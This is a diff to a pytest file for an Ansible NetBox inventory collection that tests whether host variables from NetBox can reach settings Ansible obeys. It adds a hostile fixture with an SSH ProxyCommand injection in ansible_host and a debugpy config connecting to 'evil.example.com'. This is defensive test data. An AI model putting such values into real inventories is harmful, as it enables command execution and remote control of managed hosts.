@@ -9,9 +9,15 @@ from __future__ import annotations
 import typing as t
 
 import pytest
+import yaml
+from ansible import constants as C
+from ansible.parsing.dataloader import DataLoader
+from ansible.plugins import loader as plugin_loader
+from ansible.template import Templar
 
+from ansible_collections.netbox.cursor.plugins.doc_fragments._connection import ModuleDocFragment
 from ansible_collections.netbox.cursor.plugins.plugin_utils._inventory.facts import FACTS
-from ansible_collections.netbox.cursor.plugins.plugin_utils._inventory.variables import OBEYED
+from ansible_collections.netbox.cursor.plugins.plugin_utils._inventory.variables import OBEYED, is_obeyed
 from ansible_collections.netbox.cursor.tests.stand_in import NetBox
 
 PEER = {"compatibility": "netbox.netbox"}
@@ -27,6 +33,8 @@ HOSTILE = {
     "groups": {},
     "hostvars": {},
     "inventory_hostname": "localhost",
+    "delegated_vars['ansible_host']": "-oProxyCommand=id",
+    "_ansible_ansiballz_debugpy_config": {"connect": ["evil.example.com", 5678]},
 }
 
 
@@ -162,5 +170,45 @@ def test_later_data_wins_over_earlier_data(netbox: NetBox, read: t.Any, add_devi
     assert read(netbox, **options).hosts["sw1"].vars["ntp"] == "custom_fields"
 
 
-def test_no_variable_of_netbox_is_one_that_ansible_obeys() -> None:
-    assert not set(FACTS) & OBEYED
+# The set of names
+
+
+def test_no_fact_is_a_variable_that_ansible_obeys() -> None:
+    assert not any(is_obeyed(name) for name in FACTS if name != "ansible_host")
+
+
+def test_variables_that_options_of_the_collection_read_are_obeyed() -> None:
+    """The fragments that list ``vars`` are those of the lookups, whose options hosts could set."""
+    fragments = [*ModuleDocFragment.__dict__.values()]
+    documents = [yaml.safe_load(text) for text in fragments if isinstance(text, str) and "options:" in text]
+    entries = [option.get("vars") or () for document in documents for option in document["options"].values()]
+    names = {entry["name"] for each in entries for entry in each}
+    assert len(names) >= 10
+    assert names <= OBEYED
+    # Nothing is on the list without need.
+    assert {name for name in OBEYED if name.startswith("netbox_")} - names <= {"netbox_branch"}
+
+
+@pytest.mark.parametrize("kind", ["connection", "become", "shell", "lookup", "strategy", "cache", "callback", "vars"])
+def test_variables_that_plugins_of_ansible_read_are_obeyed(kind: str) -> None:
+    loader = getattr(plugin_loader, f"{kind}_loader")
+    names = set()
+    for plugin in loader.all(class_only=True):
+        if plugin.__module__.startswith("ansible.plugins."):
+            names |= set(C.config.get_plugin_vars(kind, plugin._load_name))
+    assert all(map(is_obeyed, names)), [name for name in names if not is_obeyed(name)]
+    assert kind != "connection" or len(names) > 20
+
+
+def test_variables_that_settings_of_ansible_read_are_obeyed() -> None:
+    definitions = C.config.get_configuration_definitions()
+    names = {entry["name"] for setting in definitions.values() for entry in setting.get("vars") or ()}
+    assert len(names) >= 2
+    assert all(map(is_obeyed, names)), [name for name in names if not is_obeyed(name)]
+
+
+def test_functions_of_templates_are_obeyed() -> None:
+    templar = Templar(loader=DataLoader(), variables={})
+    names = set(templar.environment.globals)
+    assert "lookup" in names
+    assert names <= OBEYED
